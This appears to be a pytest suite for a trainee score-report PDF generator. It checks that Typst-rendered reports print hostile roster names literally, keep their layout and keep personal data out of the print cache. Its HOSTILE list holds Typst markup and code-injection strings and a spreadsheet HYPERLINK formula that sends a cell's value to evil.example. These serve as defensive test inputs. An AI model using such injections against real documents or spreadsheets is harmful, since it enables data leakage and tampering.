"""report.pdf and trainees.pdf on the Typst print layer: names from hostile rosters print as the text
they are, the same results give the same bytes, the PDFs never go through the print cache (they hold
personal data), every trainee gets a sheet of their own, the charts and real CJK fonts are in."""

from __future__ import annotations

import random
import re
import subprocess
from pathlib import Path

import numpy as np
import pypdfium2
import pytest

from generator.quiz.scoring import Trainee, score_sheet
from generator.results import analysis, report

from .helpers import SPEC, quizzes, random_answers, shipped

pytestmark = pytest.mark.slow

HOSTILE = [
    "#set page(width: 1cm)",
    "$x^2$ 与 @引用 与 <标签>",
    "] #text(size: 80pt)[巨大] [",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "C:\\路径\\名字 \\ 与 \\\\",
    "// 注释 /* 块 */ *粗* _斜_ `代码` {花括号}",
    '"); #panic("注入") //',
    "#sys.inputs.data",
]


def _analysis(names: list[str], seed: int = 3) -> dict:
    """One sheet per name (store and 工号 from the same hostile list, turned around), A and B papers."""
    rng = random.Random(seed)
    qs = quizzes()
    sheets = []
    for i, name in enumerate(names):
        quiz = qs["AB"[i % 2]]
        trainee = Trainee(name, names[-1 - i], names[(i + 3) % len(names)], "置业顾问")
        sheets.append(score_sheet(quiz, random_answers(quiz, rng, 0.6), {}, serial=str(i), trainee=trainee))
    return analysis.analyse(sheets, {SPEC: qs}, shipped())


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _text(pdf: bytes, tmp_path: Path, name: str) -> list[str]:
    """The text of every page (poppler's pdftotext; pages split at form feeds)."""
    path = tmp_path / name
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True)
    return out.stdout.decode("utf-8").split("\f")[:-1]


def _column(pdf: Path, page: int, left_mm: float, right_mm: float) -> str:
    """The text of one column of a page above its footer (pdftotext cropped to it), whitespace removed."""
    pt = 72 / 25.4
    args = ["pdftotext", "-enc", "UTF-8", "-r", "72", "-f", str(page), "-l", str(page), "-x", str(round(left_mm * pt)),
            "-y", "0", "-W", str(round((right_mm - left_mm) * pt)), "-H", "795", str(pdf), "-"]
    return _squash(subprocess.run(args, capture_output=True, check=True).stdout.decode("utf-8"))


def _info(pdf: bytes, tmp_path: Path, name: str) -> dict[str, str]:
    path = tmp_path / name
    path.write_bytes(pdf)
    out = subprocess.run(["pdfinfo", str(path)], capture_output=True, text=True, check=True).stdout
    return {k.strip(): v.strip() for k, _, v in (line.partition(":") for line in out.splitlines())}


def _bookmarks(pdf: bytes) -> list[str]:
    doc = pypdfium2.PdfDocument(pdf)
    try:
        return [item.get_title() for item in doc.get_toc()]
    finally:
        doc.close()


@pytest.fixture(scope="module")
def hostile() -> tuple[dict, dict[str, bytes]]:
    data = _analysis(HOSTILE)
    return data, report.render(data)


@pytest.fixture(scope="module")
def plain() -> dict[str, bytes]:
    """The same results with every markup character of the names written as a plain letter."""
    return report.render(_analysis([re.sub(r"[^\w\s]", "x", x) for x in HOSTILE]))


def test_hostile_names_ids_and_stores_print_literally(hostile, tmp_path):
    data, files = hostile
    people = _squash("".join(_text(files["trainees.pdf"], tmp_path, "t.pdf")))
    whole = _squash("".join(_text(files["report.pdf"], tmp_path, "r.pdf")))
    for piece in HOSTILE:
        assert _squash(piece) in people, piece
        assert _squash(piece) in whole, piece
    assert "巨大" in people and "#text(size:80pt)[巨大]" in people  # printed as the words they are, not run
    # the bookmark of each sheet names its trainee, exactly as written
    expected = [" ".join(x for x in (p.name, p.id, p.store) if x) for p in data.tests[0].trainees]
    assert _bookmarks(files["trainees.pdf"]) == expected


def test_hostile_text_never_changes_the_layout(hostile, plain, tmp_path):
    _, files = hostile
    for name in ("report.pdf", "trainees.pdf"):
        a, b = _info(files[name], tmp_path, "a.pdf"), _info(plain[name], tmp_path, "b.pdf")
        assert a["Page size"] == b["Page size"] == "595.276 x 841.89 pts (A4)", name
        assert a["Pages"] == b["Pages"], name


def test_every_trainee_gets_a_sheet_of_their_own(hostile, tmp_path):
    data, files = hostile
    trainees = data.tests[0].trainees
    pages = _text(files["trainees.pdf"], tmp_path, "t.pdf")
    path = tmp_path / "t.pdf"
    starts = [i for i, page in enumerate(pages) if "个人成绩单" in page]
    assert len(starts) == len(trainees) and starts[0] == 0
    for (start, end), p in zip(zip(starts, starts[1:] + [len(pages)]), trainees, strict=True):
        sheet = _squash("".join(pages[start:end]))
        assert _squash(p.name) in _squash(pages[start])
        assert f"答对{p.right}/{p.total}题" in sheet
        # every question answered wrong, in its columns: 你的答案, 正确答案, 回去复习 (mm from the page edge)
        for key, left, right in (("yours", 80, 114), ("right", 114, 148), ("cites", 148, 196)):
            column = "".join(_column(path, n + 1, left, right) for n in range(start, end))
            wanted = "".join(_squash("；".join(getattr(m, key)) if key == "cites" else getattr(m, key)) for m in p.missed)
            assert wanted in column, (p.name, key)
        assert ("不及格" in sheet) != p.passed
    assert all(re.search(r"第\d+页/共\d+页", _squash(page)) for page in pages)
    assert all("含个人信息，请勿外传" in page for page in pages)


def test_report_pdf_holds_every_section_and_every_trainee(hostile, tmp_path):
    data, files = hostile
    t = data.tests[0]
    text = _squash("".join(_text(files["report.pdf"], tmp_path, "r.pdf")))
    for heading in ("成绩报告", "整体情况", "最薄弱的步骤（店长看这里）", "每道题的分析", "每人成绩",
                    f"建议复核的题（{len(t.to_fix)}道）"):
        assert _squash(heading) in text, heading
    assert _squash(t.weakest_steps[0].label) in text
    assert all(_squash(q.prompt)[:20] in text for q in t.questions)
    assert f"共{len(t.trainees)}份答卷" in text
    assert _bookmarks(files["report.pdf"])[:2] == ["成绩报告", t.title]


def test_charts_are_drawn_in_the_report(hostile):
    """The SVG charts are in report.pdf: the first page has the histogram's blue bars."""
    _, files = hostile
    doc = pypdfium2.PdfDocument(files["report.pdf"])
    try:
        image = doc[0].render(scale=0.5).to_pil().convert("RGB")
    finally:
        doc.close()
    pixels = np.asarray(image, dtype=int)
    blue = int((np.abs(pixels - np.array([0x4A, 0x78, 0xB5])).max(axis=2) < 12).sum())
    assert blue > 500, blue


def test_real_cjk_fonts_are_embedded(hostile, tmp_path):
    _, files = hostile
    for name in ("report.pdf", "trainees.pdf"):
        path = tmp_path / name
        path.write_bytes(files[name])
        fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True).stdout
        for face in ("NotoSansCJKsc-Regular", "NotoSansCJKsc-Bold", "NotoSerifCJKsc-Bold"):
            line = next((x for x in fonts.splitlines() if face in x), "")
            assert line and " yes yes yes " in line, (name, face, fonts)


def test_same_results_same_bytes_and_no_print_cache(hostile, tmp_path, monkeypatch):
    data, files = hostile
    cache = tmp_path / "cache"
    monkeypatch.setenv("PLAYBOOK_CACHE", str(cache))
    again = report.render(data)
    assert again["report.pdf"] == files["report.pdf"]
    assert again["trainees.pdf"] == files["trainees.pdf"]
    assert not cache.exists() or not any(cache.rglob("*")), "personal data went into the print cache"
    info = _info(files["trainees.pdf"], tmp_path, "t.pdf")
    assert info["CreationDate"].endswith("2000 UTC") and info["CreationDate"] == _info(
        files["report.pdf"], tmp_path, "r.pdf")["CreationDate"]  # a fixed date, never the clock


def test_a_long_name_wraps_inside_its_cell(tmp_path):
    """A 120-character word from a roster breaks inside its cell instead of running over the next one."""
    long = '=HYPERLINK("http://evil.example/' + "a" * 90 + '")'
    files = report.render(_analysis([long, "李娜"]))
    path = tmp_path / "t.pdf"
    path.write_bytes(files["trainees.pdf"])
    # 姓名 is the second column of six (14mm, 1fr, 14mm, 1fr, 14mm, 1fr) from the 14mm margin
    pages = range(1, len(_text(files["trainees.pdf"], tmp_path, "t.pdf")) + 1)
    name_cell = "".join(_column(path, n, 28, 74.5) for n in pages)
    next_cell = "".join(_column(path, n, 75.5, 88) for n in pages)
    assert _squash(long) in name_cell
    assert "aaa" not in next_cell and "工号" in next_cell
